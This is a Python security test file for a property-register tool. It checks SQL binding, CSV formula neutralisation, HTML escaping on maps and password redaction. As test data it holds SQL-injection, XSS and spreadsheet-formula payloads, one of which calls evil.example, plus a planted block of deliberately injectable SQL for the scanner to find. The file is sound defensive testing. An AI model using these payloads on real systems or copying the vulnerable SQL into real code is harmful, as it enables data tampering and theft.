"""Injection and secrets: hostile names are data, SQL is bound, passwords never printed.

(a) site, organisation and asset names holding SQL, HTML/JavaScript and spreadsheet
    formulas load through the council and points loaders (the real CLI) and read back
    exactly as written (less surrounding whitespace: loaders trim every cell; the Python
    API keeps even that), on both backends;
(b) CSV exports (``estates sites -o x.csv``, ``estates export --run ID -o x.csv``)
    prefix every formula-like text cell with ``'``; GeoPackage and GeoJSON keep them as is;
(c) the generated map HTML never holds the markup raw (structure only: that the names
    render as text in real Chromium, with no script run, is
    ``tests/test_maps_browser.py::test_a_site_named_like_html_shows_as_text``, not repeated);
(d) an AST scan of every module of ``estates/``: no SQL call receives a string built
    from anything but constants, our own schema names and placeholders;
(e) database URLs with passwords: no stdout, stderr or log record of any command shows
    the password, with ``-vv``, from ``--db`` or ``ESTATES_DATABASE_URL``.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import logging
import os
import socket
import subprocess
import sys
import traceback
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pyogrio
import pytest
from click.testing import CliRunner
from sqlalchemy import inspect

import estates
from estates.cli import main
from estates.demo import demo_sites
from tests.conftest import ROOT

#: Hostile names, as a publisher (or an attacker editing a register) could write them.
EVIL = {
    "sql": "Robert'); DROP TABLE site; --",
    "sql_quote": "O'Brien \" ; DELETE FROM organisation WHERE '1'='1",
    "html": '<img src=x onerror="window.__pwned=1">',
    "script": "</script><script>alert(1)</script>",
    "template": "`${window.__pwned=3}`",
    "hyperlink": '=HYPERLINK("http://evil.example/?q="&A1,"click me")',
    "plus": "+1",
    "minus": "-1",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "cr": "\r=2+2",
}
#: Text a spreadsheet would run as a formula: the CSV exports must neutralise these.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
EVIL_ORG = "Evil <b>Council</b>'); DROP TABLE organisation; --"
EVIL_ASSET = "A1'; DELETE FROM site; --"
TRAFFORD_LONLAT = (-2.3520922, 53.3879587)


def loaded_name(value: str) -> str:
    """What a loader stores: the cell as written, without surrounding whitespace (loaders
    trim cells, so the tab and carriage return prefixes only survive the Python API)."""
    return value.strip()


def _cells(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue()


def council_file(folder: Path) -> Path:
    header = [
        "OrganisationLabel",
        "AssetCode",
        "PropertyName",
        "StreetName",
        "PostCode",
        "CoordinateReferenceSystem",
        "GeoX",
        "GeoY",
        "TenureDetail",
        "BuildingSize",
    ]
    rows = [header]
    lon, lat = TRAFFORD_LONLAT
    for n, (key, name) in enumerate(EVIL.items()):
        rows.append(
            [
                EVIL_ORG,
                EVIL_ASSET if key == "sql" else f"C-{key}",
                name,
                EVIL["html"] if key == "html" else "Market Street",
                "WA14 1PF",
                "WGS84",
                f"{lon + n * 0.001:.7f}",
                f"{lat:.7f}",
                "Vacant",
                "100",
            ]
        )
    path = folder / "evil_register.csv"
    path.write_text(_cells(rows), encoding="utf-8", newline="")
    return path


def points_file(folder: Path) -> Path:
    rows = [["name", "lon", "lat"]]
    lon, lat = TRAFFORD_LONLAT
    for n, name in enumerate(EVIL.values()):
        rows.append([name, f"{lon:.7f}", f"{lat + n * 0.001:.7f}"])
    path = folder / "evil_points.csv"
    path.write_text(_cells(rows), encoding="utf-8", newline="")
    return path


def cli(*args: str) -> Any:
    result = CliRunner().invoke(main, list(args))
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result


@dataclass
class Loaded:
    url: str
    folder: Path
    expected: dict[str, str] = field(default_factory=dict)  # source_key -> stored name


@pytest.fixture
def loaded(db_url: str, tmp_path: Path) -> Loaded:
    """Hostile names loaded through both site loaders with the real CLI."""
    council = cli("--db", db_url, "load", "council", str(council_file(tmp_path)), "--json")
    assert council.exit_code == 0, council.output
    assert json.loads(council.stdout)["inserted"] == len(EVIL)
    points = cli(
        "--db",
        db_url,
        "load",
        "points",
        str(points_file(tmp_path)),
        "--organisation",
        EVIL_ORG,
        "--sector",
        "other",
        "--json",
    )
    assert points.exit_code == 0, points.output
    assert json.loads(points.stdout)["inserted"] == len(EVIL)
    expected = {}
    slug = "evil-b-council-b-drop-table-organisation"
    for key, name in EVIL.items():
        asset = EVIL_ASSET if key == "sql" else f"C-{key}"
        expected[f"lgtc:{slug}:{asset}"] = loaded_name(name)
        expected[f"points:{slug}:{loaded_name(name)}"] = loaded_name(name)
    return Loaded(db_url, tmp_path, expected)


# -- (a) stored verbatim ---------------------------------------------------------------


def test_hostile_names_are_stored_verbatim(loaded: Loaded) -> None:
    with estates.connect(loaded.url) as estate:
        sites = estate.sites().set_index("source_key")
        with estate.read() as connection:
            tables = set(inspect(connection).get_table_names())
    assert {"site", "organisation", "load_batch", "rejected_row"} <= tables
    assert len(sites) == 2 * len(EVIL)
    assert sites.loc[list(loaded.expected), "name"].to_dict() == loaded.expected
    assert set(sites["organisation_name"]) == {EVIL_ORG}
    council_html = sites.loc[sites.index.str.endswith(":C-html")].iloc[0]
    assert council_html["address"] == EVIL["html"]


def test_hostile_text_through_the_api_is_stored_verbatim(estate: estates.Estate) -> None:
    """The Python API does not trim: tab and carriage-return prefixes are kept as given."""
    frame = demo_sites(n_sites=len(EVIL))
    frame["name"] = list(EVIL.values())
    frame["organisation_name"] = EVIL_ORG
    estate.write_sites(frame)
    stored = estate.sites().set_index("source_key")["name"]
    assert stored.loc[frame["source_key"]].tolist() == list(EVIL.values())


# -- (b) exports -----------------------------------------------------------------------


def _read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _neutralised(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_START) else value


def test_site_exports_neutralise_csv_and_keep_gpkg_geojson_verbatim(loaded: Loaded) -> None:
    with estates.connect(loaded.url) as estate:
        frame = demo_sites(n_sites=2, seed=3)
        frame["source_key"] = ["api:tab", "api:cr"]
        frame["name"] = [EVIL["tab"], EVIL["cr"]]
        estate.write_sites(frame)
    expected = {**loaded.expected, "api:tab": EVIL["tab"], "api:cr": EVIL["cr"]}
    out = loaded.folder / "sites.csv"
    assert cli("--db", loaded.url, "sites", "-o", str(out)).exit_code == 0
    rows = {r["source_key"]: r for r in _read_csv(out)}
    for key, name in expected.items():
        assert rows[_neutralised(key)]["name"] == _neutralised(name), key
    assert {rows[k]["organisation_name"] for k in loaded.expected} == {EVIL_ORG}
    assert rows["api:tab"]["name"] == "'\t=1+1" and rows["api:cr"]["name"] == "'\r=2+2"
    for suffix in (".gpkg", ".geojson"):
        target = loaded.folder / f"sites{suffix}"
        assert cli("--db", loaded.url, "sites", "-o", str(target)).exit_code == 0
        names = pyogrio.read_dataframe(target).set_index("source_key")["name"].to_dict()
        for key, name in expected.items():
            assert names[key] == name, (suffix, key)


def test_run_exports_neutralise_csv_and_keep_geojson_verbatim(loaded: Loaded) -> None:
    analysed = cli("--db", loaded.url, "analyse", "--json")
    assert analysed.exit_code == 0, analysed.output
    run_id = str(json.loads(analysed.stdout)["run_id"])
    out = loaded.folder / "run.csv"
    exported = cli("--db", loaded.url, "export", "--run", run_id, "-o", str(out))
    assert exported.exit_code == 0, exported.output
    rows = _read_csv(out)
    names = {r["name"] for r in rows}
    for name in set(loaded.expected.values()):
        assert _neutralised(name) in names, name
    assert not any(
        cell.startswith(FORMULA_START) for row in rows for cell in row.values() if cell
    ), "a text cell of the CSV would run as a formula"
    geojson = loaded.folder / "run.geojson"
    assert cli("--db", loaded.url, "export", "--run", run_id, "-o", str(geojson)).exit_code == 0
    assert set(loaded.expected.values()) <= set(pyogrio.read_dataframe(geojson)["name"])


# -- (c) maps --------------------------------------------------------------------------


def test_map_html_never_holds_the_markup_raw(loaded: Loaded) -> None:
    """Structure only: the rendered text is checked in Chromium by tests/test_maps_browser.py."""
    out = loaded.folder / "map.html"
    result = cli("--db", loaded.url, "map", "sites", "-o", str(out), "--tiles", "none", "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["sites_drawn"] == 2 * len(EVIL)
    html = out.read_text(encoding="utf-8")
    for raw in ("<img src=x onerror", "</script><script>alert(1)", "<b>Council</b>"):
        assert raw not in html, raw
    # A template-literal breaker may only appear inside a double-quoted JSON string (inert
    # there); in HTML or a backtick literal it must be entities (&#x60;&#x24;).
    template = EVIL["template"]
    for line in html.splitlines():
        start = line.find(template)
        while start >= 0:
            before = line[:start].replace('\\"', "")
            assert before.count('"') % 2 == 1, line.strip()[:200]
            start = line.find(template, start + 1)
    assert "&#x60;&#x24;{window.__pwned=3}&#x60;" in html
    # The names did reach the page, escaped (entities in HTML, \\u003c in script data).
    assert "&lt;img src=x onerror" in html or "\\u003cimg src=x onerror" in html
    assert "DROP TABLE site" in html


# -- (d) SQL only through bound parameters -----------------------------------------------

SQL_CALLS = frozenset({"text", "exec_driver_sql", "execute", "executemany"})
#: Calls whose result is a number: safe anywhere in SQL text.
NUMERIC_CALLS = frozenset({"int", "float", "len", "round", "bool", "range"})
#: Calls that only combine their arguments (safe when their arguments are).
COMBINING_CALLS = frozenset({"join", "format", "list", "tuple", "sorted", "enumerate", "zip"})
#: Our helpers that return SQL fragments made only of constants and schema names: the
#: geometry expression (``ST_AsBinary(geom)`` / ``geom``), its bind parameter, the JSON
#: bind parameter, a quoted identifier, and the GeoPackage R-tree trigger DDL and names.
SQL_HELPERS = frozenset(
    {
        "geom_select",
        "geom_param",
        "_json_param",
        "_quote",
        "rtree_trigger_ddl",
        "rtree_trigger_names",
    }
)
#: Parameters whose values come from our own code outside the module (no call site to
#: follow): the SQL that geopackage.py builds (checked there by the same rule) and the
#: table names the Alembic migrations pass.
TRUSTED_PARAMETERS = frozenset(
    {
        ("estates/db/migration_helpers.py", "_execute", "sql"),
        ("estates/db/migration_helpers.py", "unregister_spatial_tables", "tables"),
        # Checked at run time against the schema's tables and columns before any SQL
        # is built (bulk._checked_columns, rtree.checked_name; see tests/test_bulk.py).
        ("estates/db/bulk.py", "insert_rows", "table"),
        ("estates/db/bulk.py", "insert_rows", "columns"),
        ("estates/db/rtree.py", "put", "name"),
        ("estates/db/rtree.py", "rebuild", "name"),
        ("estates/db/rtree.py", "read_entries", "name"),
        # Checked at run time: identifiers only, and written double-quoted.
        ("estates/db/bulk.py", "stage_image", "columns"),
        # The site query of store._read_sites (checked there), handed to a forked child
        # through parallel.forked, so no call site names it.
        ("estates/db/store.py", "_read_only_fetch", "sql"),
    }
)
_FUNCTIONS = (ast.FunctionDef, ast.AsyncFunctionDef, ast.Lambda)
_COMPREHENSIONS = (ast.GeneratorExp, ast.ListComp, ast.SetComp, ast.DictComp)


def _called(func: ast.expr) -> str | None:
    if isinstance(func, ast.Name):
        return func.id
    return func.attr if isinstance(func, ast.Attribute) else None


class _Scope:
    """Names bound in one function, comprehension or module, and what they were bound to."""

    def __init__(self, node: ast.AST, parent: _Scope | None) -> None:
        self.node, self.parent = node, parent
        self.bindings: dict[str, list[ast.expr]] = {}
        self.params: set[str] = set()
        if isinstance(node, _FUNCTIONS):
            a = node.args
            extra = [x for x in (a.vararg, a.kwarg) if x is not None]
            self.params = {x.arg for x in [*a.posonlyargs, *a.args, *a.kwonlyargs, *extra]}

    def bind(self, target: ast.AST, value: ast.expr) -> None:
        for node in ast.walk(target):
            if isinstance(node, ast.Name):
                self.bindings.setdefault(node.id, []).append(value)


_OURS = ast.Constant(value=None)  # stands for code and constants of this package
_FOREIGN = ast.Name(id="<foreign>")  # stands for anything imported from elsewhere


class SqlChecker:
    """Which SQL calls of one module get text built from values we do not own.

    Rules: the SQL argument may be a constant, a statement object (``text(...)``, itself
    checked, or a SQLAlchemy construct), or a string built (f-string, ``+``, ``%``,
    ``.format``, ``.join``) only from: constants; numbers (``int(...)``, ``len(...)``);
    names whose every binding in scope obeys the same rule (followed through
    assignments, loops, comprehensions, functions of the module and their call sites);
    package constants and imports from ``estates``; :data:`SQL_HELPERS`; and
    :data:`TRUSTED_PARAMETERS`. Anything else (a DataFrame cell, a row attribute, a call
    into pandas) interpolated into SQL is a finding.
    """

    def __init__(self, path: str, source: str) -> None:
        self.path = path
        self.tree = ast.parse(source)
        self.scopes: dict[ast.AST, _Scope] = {}
        self.functions = {
            n.name: n
            for n in ast.walk(self.tree)
            if isinstance(n, ast.FunctionDef | ast.AsyncFunctionDef)
        }
        root = _Scope(self.tree, None)
        self.scopes[self.tree] = root
        self._visit(self.tree, root)

    def _visit(self, node: ast.AST, scope: _Scope) -> None:
        for child in ast.iter_child_nodes(node):
            self.scopes.setdefault(child, scope)
            if isinstance(child, _COMPREHENSIONS):
                inner = _Scope(child, scope)
                self.scopes[child] = inner
                for generator in child.generators:
                    self.scopes[generator.iter] = scope  # evaluated outside
                    self._visit(generator.iter, scope)
                    inner.bind(generator.target, generator.iter)
                    for condition in generator.ifs:
                        self.scopes[condition] = inner
                        self._visit(condition, inner)
                for part in ("elt", "key", "value"):
                    if isinstance(getattr(child, part, None), ast.AST):
                        self.scopes[getattr(child, part)] = inner
                        self._visit(getattr(child, part), inner)
                continue
            if isinstance(child, _FUNCTIONS):
                inner = _Scope(child, scope)
                self.scopes[child] = inner
                if not isinstance(child, ast.Lambda):
                    scope.bind(ast.Name(id=child.name), _OURS)
                self._visit(child, inner)
                continue
            if isinstance(child, ast.ClassDef):
                scope.bind(ast.Name(id=child.name), _OURS)
            elif isinstance(child, ast.Assign):
                for target in child.targets:
                    scope.bind(target, child.value)
            elif (isinstance(child, ast.AnnAssign) and child.value is not None) or isinstance(
                child, ast.AugAssign
            ):
                scope.bind(child.target, child.value)
            elif isinstance(child, ast.For):
                scope.bind(child.target, child.iter)
            elif isinstance(child, ast.withitem) and child.optional_vars is not None:
                scope.bind(child.optional_vars, child.context_expr)
            elif isinstance(child, ast.NamedExpr):
                scope.bind(child.target, child.value)
            elif isinstance(child, ast.Import | ast.ImportFrom):
                module = getattr(child, "module", None) or ""
                for alias in child.names:
                    ours = module.startswith("estates") or alias.name.startswith("estates")
                    name = (alias.asname or alias.name).split(".")[0]
                    scope.bind(ast.Name(id=name), _OURS if ours else _FOREIGN)
            self._visit(child, scope)

    def findings(self) -> list[str]:
        out = []
        for node in ast.walk(self.tree):
            if isinstance(node, ast.Call) and _called(node.func) in SQL_CALLS and node.args:
                why = self._statement(node.args[0], self.scopes.get(node, self.scopes[self.tree]))
                if why:
                    out.append(f"{self.path}:{node.lineno}: {why}")
        return out

    def _statement(self, e: ast.expr, scope: _Scope) -> str | None:
        if isinstance(e, ast.Call) and _called(e.func) not in ("format", "join"):
            return None  # text(...) is checked on its own; or a SQLAlchemy construct
        if isinstance(e, ast.Name):
            s: _Scope | None = scope
            while s is not None:
                if e.id in s.bindings:
                    for value in s.bindings[e.id]:
                        why = self._statement(value, s)
                        if why:
                            return f"{e.id} <- {why}"
                    return None
                if e.id in s.params:
                    break
                s = s.parent
        return self._safe(e, scope, frozenset())

    def _safe(self, e: ast.expr, scope: _Scope, seen: frozenset[Any]) -> str | None:
        """None when ``e`` may be formatted into SQL text; else why not."""
        if isinstance(e, ast.Constant | ast.Compare | ast.BoolOp | ast.UnaryOp):
            return None
        if isinstance(e, ast.JoinedStr):
            parts = [v.value for v in e.values if isinstance(v, ast.FormattedValue)]
            return self._all(parts, scope, seen)
        if isinstance(e, ast.BinOp):
            return self._all([e.left, e.right], scope, seen)
        if isinstance(e, ast.Tuple | ast.List | ast.Set):
            return self._all(list(e.elts), scope, seen)
        if isinstance(e, ast.Dict):
            return self._all([*(k for k in e.keys if k is not None), *e.values], scope, seen)
        if isinstance(e, ast.IfExp):
            return self._all([e.body, e.orelse], scope, seen)
        if isinstance(e, ast.Starred | ast.Subscript | ast.Attribute):
            return self._safe(e.value, scope, seen)
        if isinstance(e, _COMPREHENSIONS):
            inner = self.scopes.get(e, scope)
            if isinstance(e, ast.DictComp):
                return self._all([e.key, e.value], inner, seen)
            return self._safe(e.elt, inner, seen)
        if isinstance(e, ast.Name):
            return self._name(e.id, scope, seen)
        if isinstance(e, ast.Call):
            return self._call(e, scope, seen)
        return f"{type(e).__name__} {ast.unparse(e)[:60]!r} in SQL text"

    def _all(self, parts: list[ast.expr], scope: _Scope, seen: frozenset[Any]) -> str | None:
        for part in parts:
            why = self._safe(part, scope, seen)
            if why:
                return why
        return None

    def _call(self, e: ast.Call, scope: _Scope, seen: frozenset[Any]) -> str | None:
        name = _called(e.func)
        if name in NUMERIC_CALLS or name in SQL_HELPERS:
            return None
        if name in COMBINING_CALLS:
            parts = [*e.args, *(k.value for k in e.keywords)]
            if isinstance(e.func, ast.Attribute):
                parts.append(e.func.value)
            return self._all(parts, scope, seen)
        local = self.functions.get(name or "") if isinstance(e.func, ast.Name) else None
        if local is not None:  # a function of this module is as safe as what it returns
            key = ("returns", local.name)
            if key in seen:
                return None
            for ret in ast.walk(local):
                if isinstance(ret, ast.Return) and ret.value is not None:
                    why = self._safe(ret.value, self.scopes[ret], seen | {key})
                    if why:
                        return f"{local.name}() returns {why}"
            return None
        return f"call {ast.unparse(e)[:60]!r} in SQL text"

    def _name(self, name: str, scope: _Scope, seen: frozenset[Any]) -> str | None:
        s: _Scope | None = scope
        while s is not None:
            if name in s.bindings:
                key = (id(s), name)
                if key in seen:
                    return None
                for value in s.bindings[name]:
                    if value is _FOREIGN:
                        return f"{name} is imported from outside the package"
                    why = self._safe(value, s, seen | {key})
                    if why:
                        return f"{name} <- {why}"
                return None
            if name in s.params:
                assert isinstance(s.node, ast.FunctionDef | ast.AsyncFunctionDef)
                return self._parameter(s.node, name, seen)
            s = s.parent
        if name in dir(__builtins__):
            return None
        return f"unknown name {name}"

    def _parameter(
        self, function: ast.FunctionDef | ast.AsyncFunctionDef, name: str, seen: frozenset[Any]
    ) -> str | None:
        """A parameter is as safe as every argument the module passes for it."""
        if (self.path, function.name, name) in TRUSTED_PARAMETERS:
            return None
        key = ("parameter", function.name, name)
        if key in seen:
            return None
        positional = [a.arg for a in [*function.args.posonlyargs, *function.args.args]]
        calls = [
            n
            for n in ast.walk(self.tree)
            if isinstance(n, ast.Call)
            and isinstance(n.func, ast.Name)
            and n.func.id == function.name
        ]
        if not calls:
            return f"parameter {function.name}({name}) comes from outside the module"
        for call in calls:
            given = [k.value for k in call.keywords if k.arg == name]
            if name in positional and positional.index(name) < len(call.args):
                given.append(call.args[positional.index(name)])
            for value in given:
                why = self._safe(value, self.scopes[call], seen | {key})
                if why:
                    return f"{function.name}({name}=...) <- {why}"
        return None


def package_findings() -> list[str]:
    findings = []
    for path in sorted((ROOT / "estates").rglob("*.py")):
        relative = path.relative_to(ROOT).as_posix()
        findings += SqlChecker(relative, path.read_text(encoding="utf-8")).findings()
    return findings


def test_sql_is_never_built_from_values() -> None:
    assert package_findings() == []


_PLANTED = """
from sqlalchemy import text

def by_name(connection, frame):
    for row in frame.itertuples():
        connection.execute(text(f"SELECT * FROM site WHERE name = '{row.name}'"))

def by_code(connection, codes):
    sql = "DELETE FROM site WHERE source_key = '" + codes[0] + "'"
    connection.exec_driver_sql(sql)

def by_percent(cursor, value):
    cursor.execute("UPDATE site SET name = '%s'" % value)

def by_format(connection, frame):
    where = "code = '{}'".format(frame["code"].iloc[0])
    connection.execute(text("SELECT 1 FROM boundary WHERE " + where))

def caller(connection, frame):
    by_code(connection, frame["source_key"].tolist())
    by_percent(connection.connection.cursor(), frame.at[0, "name"])

TABLES = ("site", "boundary")

def fine(connection, ids):
    marks = ", ".join(f":i{n}" for n in range(len(ids)))
    for table in TABLES:
        connection.execute(text(f"DELETE FROM {table} WHERE id IN ({marks})"), {"i0": ids[0]})
    connection.execute(text(f"PRAGMA cache_size = {int(len(ids))}"))
"""


def test_the_sql_scan_finds_planted_injections() -> None:
    """The scan is only worth its silence if it would catch the classic mistakes."""
    findings = SqlChecker("planted.py", _PLANTED).findings()
    source = _PLANTED.splitlines()
    flagged = {source[int(f.split(":")[1]) - 1].strip() for f in findings}
    assert flagged == {
        """connection.execute(text(f"SELECT * FROM site WHERE name = '{row.name}'"))""",
        "connection.exec_driver_sql(sql)",
        """cursor.execute("UPDATE site SET name = '%s'" % value)""",
        """connection.execute(text("SELECT 1 FROM boundary WHERE " + where))""",
    }, findings


# -- (e) passwords ---------------------------------------------------------------------

PASSWORD = "s3cretPW"


def _closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])  # closed again when the block ends


def _url(password: str = PASSWORD) -> str:
    return f"postgresql://u:{password}@127.0.0.1:{_closed_port()}/x"


COMMANDS = [
    ["db", "current"],
    ["db", "upgrade"],
    ["sites"],
    ["summary", "--json"],
    ["check"],
    ["batches"],
    ["undo", "1"],
    ["rejected"],
    ["analyse"],
    ["map", "sites", "-o", "{tmp}/m.html"],
    ["export", "-o", "{tmp}/x.csv"],
    ["load", "council", "{tmp}/assets.csv"],
]


def _everything_printed(result: Any, records: list[logging.LogRecord]) -> str:
    text = result.stdout + result.stderr
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        text += "".join(traceback.format_exception(result.exception))
    for record in records:
        text += record.getMessage() + repr(record.args) + str(record.exc_info or "")
        if record.exc_info:
            text += "".join(traceback.format_exception(*record.exc_info))
    return text


@pytest.mark.parametrize("via", ["option", "environment"])
@pytest.mark.parametrize("command", COMMANDS, ids=lambda c: "-".join(c[:2]))
def test_password_appears_in_no_output_or_log(
    command: list[str],
    via: str,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    (tmp_path / "assets.csv").write_text("AssetCode,PropertyName\nA1,Hall\n", encoding="utf-8")
    args = [part.replace("{tmp}", str(tmp_path)) for part in command]
    url = _url()
    if via == "option":
        args = ["--db", url, *args]
    else:
        monkeypatch.setenv("ESTATES_DATABASE_URL", url)
    caplog.set_level(logging.DEBUG)
    for verbosity in ([], ["-v"], ["-vv"]):
        caplog.clear()
        result = CliRunner().invoke(main, [*verbosity, *args])
        assert result.exit_code != 0  # nothing listens on that port
        printed = _everything_printed(result, caplog.records)
        assert PASSWORD not in printed, (verbosity, printed[-2000:])
        if not verbosity:
            assert result.stderr.startswith("estates: error: ") and "***" in result.stderr
            assert len(result.stderr.splitlines()) == 1 and "Traceback" not in result.stderr


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://u:p@ss3cretPW@127.0.0.1:{port}/x",  # an '@' not written as %40
        "postgresql://u:s3cretPW@127.0.0.1:notaport/x",
        "postgresql://u:s3cret PW@127.0.0.1:{port}/x",
        "postgresql://u:s3cretPW%40x@127.0.0.1:{port}/x",
        "postgres://u:s3cretPW@127.0.0.1:{port}/x?sslmode=bogus",
        "mysql://u:s3cretPW@127.0.0.1:{port}/x",
    ],
)
def test_awkward_urls_fail_in_one_line_without_the_password(url: str) -> None:
    """A real process with -vv (tracebacks on) and without; nothing may show the password."""
    url = url.format(port=_closed_port())
    secret = url.split("://u:", 1)[1].rsplit("@", 1)[0]
    for extra in ([], ["-vv"]):
        result = subprocess.run(
            [sys.executable, "-m", "estates", "--db", url, *extra, "db", "current"],
            capture_output=True,
            text=True,
            cwd=ROOT,
            timeout=120,
            env={k: v for k, v in os.environ.items() if k != "ESTATES_DATABASE_URL"},
        )
        assert result.returncode == 1, result.stderr
        printed = result.stdout + result.stderr
        for fragment in {secret, "s3cret", "ss3cret"}:
            assert fragment not in printed, (extra, printed[-1500:])
        if not extra:
            assert len(result.stderr.splitlines()) == 1 and "Traceback" not in result.stderr


def test_estate_repr_and_connection_errors_hide_the_password() -> None:
    url = _url()
    assert PASSWORD not in repr(estates.Estate(url, upgrade=False))
    with pytest.raises(estates.EstatesError) as caught:
        estates.connect(url)
    assert PASSWORD not in str(caught.value) and "***" in str(caught.value)
